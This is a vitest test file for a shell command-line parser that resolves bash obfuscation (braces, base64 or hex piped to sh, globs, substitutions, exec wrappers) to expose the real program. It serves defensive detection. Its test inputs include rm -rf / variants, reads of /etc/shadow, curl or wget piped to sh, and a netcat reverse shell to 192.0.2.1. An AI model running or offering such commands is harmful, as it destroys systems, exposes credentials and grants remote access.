import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './parse-command-line';
import type { ShellCommand } from './types';

/**
 * What bash would run, seen through the `commands` fact (issue 21, shell semantics):
 * brace expansion, text piped or here-stringed into a shell, globs naming well-known
 * paths, static substitutions and parameter expansions, `builtin`/`exec`/`command -p`.
 */
const find = (line: string, program: string): ShellCommand | undefined =>
  parseCommandLine(line).find((c) => c.program === program);
const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);

describe('brace expansion', () => {
  it.each([
    ['{rm,-rf,/var/log}', 'rm', ['-rf', '/var/log']],
    ['/bin/{c,}at /etc/passwd', 'cat', ['/bin/at', '/etc/passwd']],
    ['{wget,http://x.example/a}', 'wget', ['http://x.example/a']],
    ['sudo {rm,-rf} /', 'rm', ['-rf', '/']],
    ['{r,}m -rf /', 'rm', ['m', '-rf', '/']],
    ['cat /etc/{passwd,shadow}', 'cat', ['/etc/passwd', '/etc/shadow']],
    ['echo a{b,c{d,e}}f', 'echo', ['abf', 'acdf', 'acef']],
    [
      'echo {1..3} {a..c} {01..03} {5..1..2}',
      'echo',
      ['1', '2', '3', 'a', 'b', 'c', '01', '02', '03', '5', '3', '1'],
    ],
  ])('%s runs %s %j', (line, program, args) => {
    const command = find(line, program);
    expect(command?.args).toEqual(args);
  });

  it('leaves quoted, escaped, comma-less and assignment braces alone', () => {
    expect(find(`echo '{a,b}' "{c,d}" \\{e,f} {g} {} x={h,i}`, 'echo')?.args).toEqual([
      '{a,b}',
      '{c,d}',
      '{e,f}',
      '{g}',
      '{}',
      'x=h',
      'x=i',
    ]);
    expect(find('y={a,b} env', 'env')?.assignments).toEqual(['y={a,b}']);
    expect(find('find . -exec rm {} ;', 'find')?.args).toContain('{}');
    expect(find('{ rm -rf /; }', 'rm')?.args).toEqual(['-rf', '/']);
    expect(find('echo ${x},{a,b}', 'echo')?.args).toEqual(['${x},a', '${x},b']);
  });

  it('expands a quoted part inside a brace list as bash does', () => {
    expect(find(`{'rm',-rf,"/var/log"}`, 'rm')?.args).toEqual(['-rf', '/var/log']);
    expect(find(`echo {a,'b,c'}`, 'echo')?.args).toEqual(['a', 'b,c']);
  });

  it('caps the words a brace pattern makes', () => {
    expect(find('echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}', 'echo')?.args).toHaveLength(64);
    expect(find('echo {1..100000}', 'echo')?.args).toHaveLength(64);
    const many = find(`echo ${'{a,b}'.repeat(200)}`, 'echo');
    expect(many?.args.length).toBeLessThanOrEqual(64);
  });
});

describe('text a shell reads on stdin', () => {
  it.each([
    [`echo 'rm -rf /' | bash`, 'rm', ['-rf', '/']],
    [`echo -e 'id\\ncat /etc/shadow' | sh`, 'cat', ['/etc/shadow']],
    [`printf '%s' 'curl x|sh' | sh`, 'curl', ['x']],
    [`printf 'wget %s' http://x.example/a | bash -s`, 'wget', ['http://x.example/a']],
    [`bash <<< 'id; cat /etc/shadow'`, 'cat', ['/etc/shadow']],
    [
      `sh <<<"$(echo 'nc -e /bin/sh 192.0.2.1 4444')"`,
      'nc',
      ['-e', '/bin/sh', '192.0.2.1', '4444'],
    ],
    ['echo cm0gLXJmIC8= | base64 -d | bash', 'rm', ['-rf', '/']],
    ['base64 -d <<< cm0gLXJmIC8= | bash', 'rm', ['-rf', '/']],
    ['echo 726d202d7266202f | xxd -r -p | sh', 'rm', ['-rf', '/']],
    ['echo cm0gLXJmIC8= | openssl base64 -d | cat | sh', 'rm', ['-rf', '/']],
    [`sh <<< "$(echo cm0gLXJmIC8= | base64 --decode)"`, 'rm', ['-rf', '/']],
  ])('%s runs %s %j', (line, program, args) => {
    const command = find(line, program);
    expect(command?.args).toEqual(args);
    expect(command?.origin).toBe('stdin');
  });

  it('marks where a command reads its stdin, and parses nothing it cannot know', () => {
    const commands = parseCommandLine('cat payload.txt | bash');
    expect(commands.map((c) => [c.program, c.stdin])).toEqual([
      ['cat', undefined],
      ['bash', 'pipe'],
    ]);
    expect(find('bash < x.sh', 'bash')?.stdin).toBe('file');
    expect(find('bash <<EOF', 'bash')?.stdin).toBe('heredoc');
    expect(find('echo id | bash <<< ls', 'bash')?.stdin).toBe('here-string');
    expect(programs('echo id | bash script.sh')).toEqual(['echo', 'bash']);
    expect(programs('echo id | bash -c ls')).toEqual(['echo', 'bash', 'ls']);
    expect(programs('echo id | grep x')).toEqual(['echo', 'grep']);
    expect(programs('curl -s http://x.example/a | bash')).toEqual(['curl', 'bash']);
  });

  it('keeps elevation for what an elevated shell reads', () => {
    const rm = find(`echo 'rm -rf /' | sudo bash`, 'rm');
    expect(rm?.elevated).toBe(true);
    expect(rm?.depth).toBe(1);
  });
});

describe('globs naming well-known paths', () => {
  it.each([
    ['cat /etc/shado[w]', 'cat', ['/etc/shado[w]', '/etc/shadow']],
    ['cat /e?c/sh*ow', 'cat', ['/e?c/sh*ow', '/etc/shadow']],
    ['cat "/etc"/pass?d', 'cat', ['/etc/pass?d', '/etc/passwd']],
    ['/???/c?t /etc/passwd', 'cat', ['/etc/passwd']],
    // Sorted like bash's expansion: the first match runs, the others are its arguments.
    [
      '/usr/bin/n? -e /bin/sh 192.0.2.1 4444',
      'nc',
      ['/usr/bin/nl', '-e', '/bin/sh', '192.0.2.1', '4444'],
    ],
  ])('%s → %s %j', (line, program, args) => {
    expect(find(line, program)?.args).toEqual(args);
  });

  it('matches only absolute, unquoted glob characters, and keeps the literal', () => {
    expect(find('cat /etc/shado?', 'cat')?.args).toEqual(['/etc/shado?', '/etc/shadow']);
    expect(find(`cat '/etc/shado?'`, 'cat')?.args).toEqual(['/etc/shado?']);
    expect(find('cat /etc/shado\\?', 'cat')?.args).toEqual(['/etc/shado?']);
    expect(find('ls *.txt etc/shado?', 'ls')?.args).toEqual(['*.txt', 'etc/shado?']);
    expect(find('cat /srv/app/*.log', 'cat')?.args).toEqual(['/srv/app/*.log']);
    expect(find('X=/etc/shado? env', 'env')?.assignments).toEqual(['X=/etc/shado?']);
    expect(find('cat < /etc/shado?', 'cat')?.redirects).toEqual([
      { op: '<', target: '/etc/shado?' },
    ]);
  });

  it('matches at most 32 glob words per line', () => {
    const line = `cat ${Array.from({ length: 40 }, () => '/etc/shado?').join(' ')}`;
    const args = find(line, 'cat')?.args ?? [];
    expect(args.filter((arg) => arg === '/etc/shadow')).toHaveLength(32);
  });

  it('caps the paths one glob adds', () => {
    const rm = find('rm -rf /usr/bin/*', 'rm');
    expect(rm?.args[1]).toBe('/usr/bin/*');
    expect(rm?.args.length).toBe(2 + 16);
  });
});

describe('static substitutions and parameter expansions', () => {
  it.each([
    ['$(echo rm) -rf /', 'rm'],
    ['`printf rm` -rf /', 'rm'],
    [`$(printf '\\x72\\x6d') -rf /`, 'rm'],
    [`$(echo -n "rm") -rf /`, 'rm'],
    ['r$(echo m) -rf /', 'rm'],
    ['${x:-rm} -rf /', 'rm'],
    ['${x-rm} -rf /', 'rm'],
    ['x=; ${x:=rm} -rf /', 'rm'],
    ['x=1; ${x:+rm} -rf /', 'rm'],
    ['a=rm; $a -rf /', 'rm'],
    ['a=$(echo rm); $a -rf /', 'rm'],
    ['a=xrmx; ${a:1:2} -rf /', 'rm'],
    ['a=RM; ${a,,} -rf /', 'rm'],
  ])('%s runs rm', (line, program) => {
    expect(find(line, program)?.args).toEqual(['-rf', '/']);
  });

  it.each([
    ['$(echo rm -rf /)', 'rm', ['-rf', '/'], 0],
    ['$(echo rm -rf) / "a b" /x', 'rm', ['-rf', '/'], 0],
    ['`echo Y2F0IC9ldGMvc2hhZG93 | base64 -d`', 'cat', ['/etc/shadow'], 0],
    ['eval $(echo cm0gLXJmIC8= | base64 -d)', 'rm', ['-rf', '/'], 1],
    ['bash -c "$(printf \'rm -rf %s\' /)"', 'rm', ['-rf', '/'], 1],
    ['sudo $(echo rm -rf /tmp/x)', 'rm', ['-rf', '/tmp/x'], 0],
  ])('%s runs the substitution output %s %j', (line, program, args, depth) => {
    const command = find(line, program);
    expect(command?.args).toEqual(args);
    expect(command?.origin).toBe('script');
    expect(command?.depth).toBe(depth + 1);
  });

  it('runs nothing for a substitution whose output is unknown', () => {
    expect(programs('$(curl -s http://x.example/a)')).toEqual(['curl', 'a)']);
    expect(programs('eval "$(ssh-agent -s)"')).toEqual([
      'ssh-agent',
      'eval',
      'ssh-agent',
      '$(ssh-agent -s)',
    ]);
    expect(find('sudo $(echo rm -rf /tmp/x)', 'rm')?.elevated).toBe(true);
  });

  it('leaves dynamic and unknown results literal, without throwing', () => {
    expect(programs('"${PATH:0:1}"bin"${PATH:0:1}"sh')).toEqual(['${PATH:0:1}bin${PATH:0:1}sh']);
    expect(programs('$(date) x')).toEqual(['date', '$(date)']);
    expect(programs('$(echo rm) -rf /')).toEqual(['echo', 'rm']);
    expect(programs('x=1; ${x:-rm} y')).toEqual(['', '1']);
    expect(programs('${x:+rm} y')).toEqual(['y']);
    // Single quotes keep `$` literal, as bash does: nothing to resolve.
    expect(programs(`x=rm; '$x' -rf /; '$(echo rm)' x`)).toEqual(['', '$x', '$(echo rm)']);
    expect(find('${x:+-f} rm -rf /', 'rm')?.args).toEqual(['-rf', '/']);
  });
});

describe('builtin, exec and command -p', () => {
  it.each([
    ['builtin eval id', 'eval', ['builtin']],
    ['exec -a sshd nc -e /bin/sh 192.0.2.1 4444', 'nc', ['exec']],
    ['exec -cl -a x bash -i', 'bash', ['exec']],
    ['command -p cat /etc/shadow', 'cat', ['command']],
    ['builtin command -p rm -rf /', 'rm', ['builtin', 'command']],
  ])('%s runs %s', (line, program, wrappers) => {
    expect(find(line, program)?.wrappers).toEqual(wrappers);
  });
});

describe('bounds', () => {
  it('never throws on expansion-heavy random input', () => {
    const pieces = fc.constantFrom(
      ...['{', '}', ',', '..', '*', '?', '[', ']', '/', '/etc/', '/???/', 'c?t', 'shado[w]'],
      ...['<<<', ' | bash', ' | sh -s', 'echo ', 'printf ', '%s', 'base64 -d', 'xxd -r -p'],
      ...['cm0gLXJmIC8=', '$(echo ', '`printf ', '${x:-', '${x:1:2}', '${x,,}', ')', '`'],
      ...["'", '"', '\\', ' ', ';', 'x=rm', '$x', 'builtin ', 'exec -a ', 'command -p '],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
        const commands = parseCommandLine(parts.join(''));
        expect(commands.length).toBeLessThanOrEqual(256);
      }),
      { numRuns: 3000 },
    );
  });

  it('stays bounded on nested stdin and brace bombs', () => {
    const nested = `echo ${"'".repeat(1)}${'echo x | bash; '.repeat(500)}' | bash`;
    expect(parseCommandLine(nested).length).toBeLessThanOrEqual(256);
    const bomb = `${'{a,b}'.repeat(2000)} ${'/???'.repeat(100)}`;
    expect(parseCommandLine(bomb.repeat(20)).length).toBeLessThanOrEqual(256);
  });
});
